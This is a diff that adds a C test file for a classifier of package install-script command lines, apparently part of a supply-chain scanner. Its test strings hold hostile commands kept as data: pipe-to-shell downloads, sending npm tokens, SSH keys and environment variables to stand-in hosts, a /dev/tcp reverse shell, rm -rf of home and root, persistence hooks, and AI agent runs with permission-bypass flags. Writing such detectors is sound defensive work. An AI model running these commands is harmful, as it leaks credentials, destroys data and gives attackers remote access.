@@ -1,0 +1,187 @@
+/* What command lines mean; first those that mean nothing. */
+#include "observe/command.h"
+
+#include "base/arena.h"
+#include "observe/classify.h"
+#include "observed.h"
+#include "test.h"
+
+static struct qn_arena arena = { .max = (size_t)64 << 20 };
+static struct qn_classes classes;
+static const struct qn_commands *commands;
+static struct qn_buf seen = { .max = 1 << 20 }, files = { .max = 1 << 20 };
+
+static void on_event(void *ctx, struct qn_event *e)
+{
+        (void)ctx;
+        observed_add(&seen, e);
+}
+
+static void on_file(void *ctx, struct qn_str path, struct qn_str lang)
+{
+        (void)ctx;
+        qn_buf_printf(&files, "%.*s:%.*s ", QN_STR_ARG(lang), QN_STR_ARG(path));
+}
+
+static void on_code(void *ctx, struct qn_str code, struct qn_str lang)
+{
+        (void)ctx;
+        qn_buf_printf(&files, "code-%.*s:%.*s ", QN_STR_ARG(lang), QN_STR_ARG(code));
+}
+
+static void on_script(void *ctx, struct qn_str name)
+{
+        (void)ctx;
+        qn_buf_printf(&files, "script:%.*s ", QN_STR_ARG(name));
+}
+
+static struct qn_command_sum observe(const char *line)
+{
+        struct qn_command_host host = { NULL, on_event, on_file, on_code, on_script };
+        struct qn_command_sum sum;
+        struct qn_err err = { 0 };
+
+        if (!commands) {
+                if (qn_classes_load(TEST_DATA, &arena, &classes, &err) < 0 ||
+                    qn_commands_load(TEST_DATA, &classes, &arena, &commands, &err) < 0)
+                        fail_msg("%s", err.msg);
+        }
+        qn_buf_reset(&seen);
+        qn_buf_reset(&files);
+        ASSERT_EQ(qn_command_observe(commands, qn_str_c(line), &arena, &host, &sum), 0);
+        return sum;
+}
+
+static void expect(const char *line, const char *want)
+{
+        observe(line);
+        if (!observed_has(qn_buf_view(&seen), want))
+                fail_msg("%s: no \"%s\" in:\n%s", line, want, seen.n ? seen.p : "(nothing)");
+}
+
+static void expect_none(const char *line)
+{
+        observe(line);
+        if (seen.n)
+                fail_msg("%s: unexpected\n%s", line, seen.p);
+}
+
+static void expect_files(const char *line, const char *want)
+{
+        observe(line);
+        if (!qn_str_is(qn_buf_view(&files), want))
+                fail_msg("%s: \"%s\" is not \"%s\"", line, files.n ? files.p : "", want);
+}
+
+TEST(ordinary_commands_are_silent)
+{
+        static const char *const lines[] = {
+                "node install.js",
+                "node-gyp rebuild",
+                "node-gyp-build || npm run build",
+                "prebuild-install -r napi || node-gyp rebuild",
+                "husky install",
+                "npm run build && npm run test",
+                "tsc -p tsconfig.json && chmod +x dist/cli.js",
+                "patch-package",
+                "echo \"curl x | sh\"",
+                "node -e \"try{require('./postinstall')}catch(e){}\"",
+                "opencollective-postinstall || exit 0",
+                "cross-env NODE_ENV=production webpack --mode production",
+                "if [ -d .git ]; then husky; fi",
+                "mkdir -p ~/.ssh",
+                "is-ci || husky",
+                "git diff --quiet",
+                "node -p \"require('node-addon-api').include\"",
+                "codex-something --yolo",
+                "q",
+                "npm test",
+                "npm ci --ignore-scripts",
+        };
+
+        for (size_t i = 0; i < QN_ARRAY_SIZE(lines); i++)
+                expect_none(lines[i]);
+}
+
+TEST(download_and_run)
+{
+        expect("curl -fsSL https://bun.sh/install | bash", "download.run how=pipe class=runtime");
+        expect("curl -fsSL https://bun.sh/install | bash", "runtime.fetch what=bun");
+        expect("wget -qO- http://a.invalid/x|sudo sh -s -- -y", "download.run host=a.invalid");
+        expect("curl a.invalid/x | base64 -d | sh", "download.run how=pipe");
+        expect("bash -c \"$(curl -fsSL https://a.invalid/i.sh)\"", "download.run how=substitution");
+        expect("bash <(curl -s https://a.invalid/i.sh)", "download.run how=substitution");
+        expect("eval `wget -O - a.invalid`", "download.run how=substitution");
+        expect("curl -o /tmp/x https://a.invalid/x && chmod +x /tmp/x && /tmp/x", "download.run how=saved");
+        expect("wget https://a.invalid/p.py; python3 p.py", "download.run how=saved");
+        expect("powershell -c \"iex (iwr http://a.invalid/x.ps1)\"", "download.run how=powershell host=a.invalid");
+        expect("npx -y github:nobody/nothing#0123", "download.run how=npx-git");
+        expect("echo aWQ= | base64 -d | sh", "code.decode encoding=base64 into=shell");
+        observe("curl -s https://a.invalid/x | tar xz");
+        ASSERT_FALSE(observed_has(qn_buf_view(&seen), "download.run"));
+        observe("curl -s https://a.invalid/x.json | node scripts/read.js");
+        ASSERT_FALSE(observed_has(qn_buf_view(&seen), "download.run"));
+}
+
+TEST(secrets_and_sending)
+{
+        expect("cat ~/.npmrc", "secret.read which=npm +npm");
+        expect("curl -d @$HOME/.npmrc https://a.invalid", "net.send host=a.invalid +npm");
+        expect("curl -X POST -d \"$(cat ~/.ssh/id_rsa)\" https://webhook.site/x", "net.send class=request-bin +ssh");
+        expect("env | curl -F x=@- https://a.invalid", "net.send +env");
+        expect("printenv | base64 | nc 192.0.2.1 99", "net.send +env");
+        expect("curl -H \"Authorization: $GITHUB_TOKEN\" https://a.invalid", "secret.read name=GITHUB_TOKEN");
+        expect("gh auth token", "secret.read which=github +github");
+        expect("cat wallet.dat", "wallet.read");
+        expect("npm whoami", "registry.token how=whoami");
+}
+
+TEST(ai_command_lines)
+{
+        expect("claude --dangerously-skip-permissions -p 'look for files named secret'",
+               "ai.prompt program=claude flags=--dangerously-skip-permissions how=bypass");
+        expect("npx -y @anthropic-ai/claude-code@latest --permission-mode bypassPermissions", "ai.prompt program=claude how=bypass");
+        expect("gemini --yolo hello", "ai.prompt how=bypass");
+        expect("q chat --trust-all-tools --no-interactive \"x\"", "ai.prompt flags=--trust-all-tools");
+        expect("codex exec 'tell me about this repository please'", "ai.prompt program=codex");
+}
+
+TEST(persistence_and_destruction)
+{
+        expect("echo 'sudo shutdown -h 0' >> ~/.bashrc", "persist how=profile path=~/.bashrc");
+        expect("sudo shutdown -h 0", "system.destroy how=shutdown");
+        expect("rm -rf ~/", "system.destroy path=~/");
+        expect("rm -rf \"$HOME\"", "system.destroy path=~");
+        expect("rm -rf --no-preserve-root /", "system.destroy path=/");
+        expect("rm -rf dist", "file.delete path=dist");
+        expect("systemctl --user enable --now pgmon", "persist how=systemd");
+        expect("reg add HKCU\\\\Software\\\\Microsoft\\\\Windows\\\\CurrentVersion\\\\Run /v x", "persist how=registry");
+        expect("schtasks /create /tn x", "persist how=schtasks");
+        expect("cp a.json .claude/settings.json", "agent.config how=claude");
+        expect("docker run -v /:/host alpine", "container.escape how=host-mount");
+        expect("bash -i >& /dev/tcp/192.0.2.7/4444 0>&1", "net.connect how=reverse-shell host=192.0.2.7");
+        expect("git config --global core.hooksPath ~/.x", "git.write how=hooks");
+        expect("npm publish --tag x", "registry.publish how=npm");
+        expect("npx trufflehog filesystem /", "tool.scanner what=trufflehog");
+}
+
+TEST(what_is_run)
+{
+        expect_files("node setup.mjs", "js:setup.mjs ");
+        expect_files("node -r ./hook.js --no-warnings=x main", "js:./hook.js js:main ");
+        expect_files("bun run ./x.ts && exit 1", "js:./x.ts ");
+        expect_files("cross-env A=1 B=2 node a.js", "js:a.js ");
+        expect_files("nohup env X=1 ./tools/setup --quiet &", "exec:./tools/setup ");
+        expect_files("sh -c 'node b.js'", "js:b.js ");
+        expect_files("sh ./x.sh", "shell:./x.sh ");
+        expect_files("python3 -m pip install x", "");
+        expect_files("python -c 'print(1)'", "code-python:print(1) ");
+        expect_files("node -e \"require('./x')\"", "code-js:require('./x') ");
+        expect_files("npm run build -- --x", "script:build ");
+        expect_files("node .\\lib\\x.js", "js:./lib/x.js ");
+        expect_files("powershell -enc aQBkAA==", "code-powershell:id ");
+        ASSERT_STR(observe("sudo -u x nohup node y >/dev/null 2>&1 &").program, "node");
+        ASSERT_TRUE(observe("node y >/dev/null 2>&1 &").hidden);
+        ASSERT_TRUE(observe("node y >/dev/null 2>&1 &").background);
+        ASSERT_TRUE(observe("node y || true").hides_errors);
+}
